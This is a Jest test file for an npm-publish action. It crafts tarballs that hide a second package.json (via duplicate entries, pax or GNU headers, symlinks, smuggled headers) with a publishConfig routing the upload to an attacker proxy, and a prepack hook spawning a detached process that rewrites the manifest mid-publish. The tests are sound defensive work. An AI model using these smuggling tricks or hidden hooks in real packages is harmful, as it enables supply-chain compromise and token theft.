/* eslint jest/expect-expect: ["warn", { "assertFunctionNames": ["expect", "expectRefused"] }] */
/**
 * Issue 13, class 1: a .tgz with more than one manifest. Each archive is crafted with node-tar's
 * Header/Pax (helpers/tar-fixtures.ts) so that the first package/package.json is harmless and a
 * later entry (which npm's extraction makes the real package.json) names another package and a
 * publishConfig that routes the upload through a recording proxy. The action must refuse it
 * (PACKAGE_INVALID) before anything reaches the registry or the proxy. Through dist/, as the
 * runner runs it, against the scripted fake registry. Also: npm's `--json` id checked against
 * what the action checked, and (class 14) a package.json with a byte-order mark.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import fs from 'node:fs'
import path from 'node:path'
import {
  makeSandbox,
  removeSandboxes,
  runAction,
  writePackage,
  type RunResult
} from '../scripts/lib/runner.mjs'
import { FakeRegistry, fakeToken } from './helpers/fake-registry.js'
import { findLeaks, leftovers, runSources } from './helpers/leaks.js'
import { EvilServer } from './helpers/loopback.js'
import { killPidFrom } from './helpers/procs.js'
import {
  END_OF_ARCHIVE,
  ZERO_BLOCK,
  fileEntry,
  linkEntry,
  manifestBody,
  slashSmuggle,
  writeTgz,
  type TarPart
} from './helpers/tar-fixtures.js'

const token = fakeToken()
let fake: FakeRegistry
let evil: EvilServer

beforeAll(async () => {
  fake = await FakeRegistry.start({ token })
  evil = await EvilServer.start()
})

afterAll(async () => {
  await fake.close()
  await evil.close()
  removeSandboxes()
})

const ENV = { NPM_AUTOMATION_PUBLISH_TIMEOUT_MS: '5000' }

/** The manifest the action would check if it read the first entry only. */
const visible = (tag: string): Buffer =>
  manifestBody({ name: `tar-visible-${tag}`, version: '1.0.0' })

/** The manifest npm would publish: another name, and a publishConfig that routes the PUT. */
const hidden = (tag: string): Buffer =>
  manifestBody({
    name: `tar-hidden-${tag}`,
    version: '6.6.6',
    publishConfig: {
      'https-proxy': evil.url,
      proxy: evil.url,
      'strict-ssl': false,
      registry: evil.url
    }
  })

const index = fileEntry('package/index.js', 'module.exports = 1\n')

/** Runs the action on a crafted tarball; returns the run and what the servers saw during it. */
async function publishTgz(
  tag: string,
  parts: TarPart[],
  options: { end?: boolean } = {}
): Promise<{ run: RunResult; registrySaw: number; evilSaw: number }> {
  const sandbox = makeSandbox()
  writeTgz(path.join(sandbox.workspace, `${tag}.tgz`), parts, options)
  const registryBefore = fake.requests.length
  const evilBefore = evil.seen.length
  const run = await runAction({
    inputs: { token, registry: fake.url, package: `${tag}.tgz` },
    sandbox,
    env: ENV
  })
  return {
    run,
    registrySaw: fake.requests.length - registryBefore,
    evilSaw: evil.seen.length - evilBefore
  }
}

/** Refused before anything was sent anywhere; nothing of the hidden package published. */
function expectRefused(
  result: Awaited<ReturnType<typeof publishTgz>>,
  tag: string,
  reason: RegExp
): void {
  const { run } = result
  expect(run.outputs['error-code']).toBe('PACKAGE_INVALID')
  expect(run.outputs['published']).toBe('false')
  expect(run.main.exitCode).toBe(1)
  expect(run.main.stdout).toMatch(reason)
  // Nothing reached the registry (not even the preflight: a .tgz is read before the token is used).
  expect(result.registrySaw).toBe(0)
  expect(result.evilSaw).toBe(0)
  expect(fake.versionsOf(`tar-hidden-${tag}`)).toEqual([])
  expect(fake.versionsOf(`tar-visible-${tag}`)).toEqual([])
  expect(run.main.stdout).not.toContain('::group::npm publish')
  expect(run.post?.exitCode).toBe(0)
  expect(leftovers(run.sandbox.runnerTemp)).toEqual([])
  expect(findLeaks(token, runSources(run))).toEqual([])
}

const TWO = /2 entries become package\/package\.json/

describe('a .tgz whose later entry npm would take as package.json is refused', () => {
  const cases: [string, string, (tag: string) => TarPart[], RegExp][] = [
    [
      'two package/package.json entries',
      'dup',
      (t) => [
        fileEntry('package/package.json', visible(t)),
        index,
        fileEntry('package/package.json', hidden(t))
      ],
      TWO
    ],
    [
      'package/package.json, then other/package.json (any top directory is stripped)',
      'otherdir',
      (t) => [
        fileEntry('package/package.json', visible(t)),
        fileEntry('other/package.json', hidden(t))
      ],
      TWO
    ],
    [
      'a pax path= header renaming a later entry to package/package.json',
      'pax',
      (t) => [
        fileEntry('package/package.json', visible(t)),
        { kind: 'pax', fields: { path: 'package/package.json' } },
        fileEntry('package/zzz.txt', hidden(t))
      ],
      TWO
    ],
    [
      'a GNU long name (type L) naming a later entry package/package.json',
      'gnu',
      (t) => [
        fileEntry('package/package.json', visible(t)),
        { kind: 'gnu-long-name', path: 'package/package.json' },
        fileEntry('package/xx.txt', hidden(t))
      ],
      TWO
    ],
    [
      'a later package/package.json of type 7 (contiguous file)',
      'type7',
      (t) => [
        fileEntry('package/package.json', visible(t)),
        fileEntry('package/package.json', hidden(t), 'ContiguousFile')
      ],
      TWO
    ],
    [
      'a package/package.json after one zero block (not the end of the archive)',
      'zero',
      (t) => [
        fileEntry('package/package.json', visible(t)),
        ZERO_BLOCK,
        fileEntry('package/package.json', hidden(t))
      ],
      TWO
    ],
    [
      'a type-0 entry named like a directory whose body smuggles a header',
      'slash',
      (t) => [
        fileEntry('package/package.json', visible(t)),
        ...slashSmuggle('package/x/', [fileEntry('package/package.json', hidden(t))])
      ],
      TWO
    ],
    [
      'a package/package.json that is a symbolic link',
      'symlink',
      (t) => [
        fileEntry('package/real.json', hidden(t)),
        linkEntry('package/package.json', 'real.json')
      ],
      /package\.json entry is a SymbolicLink/
    ],
    [
      'a package/package.json file, then a symbolic link of the same name',
      'symlink2',
      (t) => [
        fileEntry('package/package.json', visible(t)),
        linkEntry('package/package.json', 'real.json'),
        fileEntry('package/real.json', hidden(t))
      ],
      TWO
    ]
  ]

  it.each(cases)('%s', async (_title, tag, parts, reason) => {
    expectRefused(await publishTgz(tag, parts(tag)), tag, reason)
  })
})

describe('what npm ignores is ignored', () => {
  it('an entry after the end-of-archive marker (two zero blocks) changes nothing: the first manifest is published', async () => {
    const tag = 'eoa'
    const { run, evilSaw } = await publishTgz(
      tag,
      [
        fileEntry('package/package.json', visible(tag)),
        index,
        END_OF_ARCHIVE,
        fileEntry('package/package.json', hidden(tag))
      ],
      { end: true }
    )
    expect(run.outputs['error-code']).toBe('')
    expect(run.outputs['published']).toBe('true')
    expect(run.outputs['id']).toBe(`tar-visible-${tag}@1.0.0`)
    expect(fake.versionsOf(`tar-visible-${tag}`)).toEqual(['1.0.0'])
    expect(fake.versionsOf(`tar-hidden-${tag}`)).toEqual([])
    expect(fake.puts.filter((p) => p.name === `tar-visible-${tag}` && p.tokenSent)).toHaveLength(1)
    expect(evilSaw).toBe(0)
    expect(findLeaks(token, runSources(run))).toEqual([])
  })
})

describe("npm's --json id is compared with the name@version the action checked", () => {
  it('a package.json rewritten while npm starts is published under another version: PACKAGE_INVALID, published=false', async () => {
    // A leftover that escapes the kill (`setsid env -i`: its own session, no marker in its
    // environment) waits for the private dir (the publish is about to start), then bumps the
    // version in package.json: npm packs what it reads then, after every check of the action.
    const sandbox = makeSandbox()
    const dir = path.join(sandbox.workspace, 'pkg')
    const pidFile = path.join(sandbox.root, 'rewriter.pid')
    const rewriter = `
const fs = require('fs'), path = require('path')
fs.writeFileSync(${JSON.stringify(pidFile)}, String(process.pid))
const temp = ${JSON.stringify(sandbox.runnerTemp)}
const started = Date.now()
const tick = () => {
  if (fs.readdirSync(temp).some((n) => n.startsWith('npm-automation-publish-'))) {
    const file = path.join(${JSON.stringify(dir)}, 'package.json')
    const m = JSON.parse(fs.readFileSync(file, 'utf8'))
    m.version = '6.6.6'
    fs.writeFileSync(file, JSON.stringify(m))
    return
  }
  if (Date.now() - started < 30000) setTimeout(tick, 2)
}
tick()
`
    writePackage(
      dir,
      {
        name: 'tar-id-check',
        version: '1.0.0',
        scripts: {
          prepack: 'setsid env -i PATH="$PATH" node rewriter.js > /dev/null 2>&1 < /dev/null &'
        }
      },
      { 'rewriter.js': rewriter }
    )
    const run = await runAction({
      inputs: { token, registry: fake.url, package: 'pkg' },
      sandbox,
      env: ENV
    })
    try {
      expect(fake.versionsOf('tar-id-check')).toEqual(['6.6.6']) // npm did publish what it read
      expect(run.outputs['error-code']).toBe('PACKAGE_INVALID')
      expect(run.outputs['published']).toBe('false')
      expect(run.outputs['id']).toBe('')
      expect(run.main.stdout).toContain('not the tar-id-check@1.0.0 the action checked')
    } finally {
      killPidFrom(pidFile)
    }
  })
})

describe('a package.json with a UTF-8 byte-order mark (class 14)', () => {
  it('is read as npm reads it, and published', async () => {
    const sandbox = makeSandbox()
    const dir = path.join(sandbox.workspace, 'pkg')
    writePackage(dir, { name: 'tar-bom', version: '1.0.0' })
    const file = path.join(dir, 'package.json')
    fs.writeFileSync(file, Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), fs.readFileSync(file)]))
    const run = await runAction({
      inputs: { token, registry: fake.url, package: 'pkg' },
      sandbox,
      env: ENV
    })
    expect(run.outputs['error-code']).toBe('')
    expect(run.outputs['id']).toBe('tar-bom@1.0.0')
    expect(fake.versionsOf('tar-bom')).toEqual(['1.0.0'])
  })
})
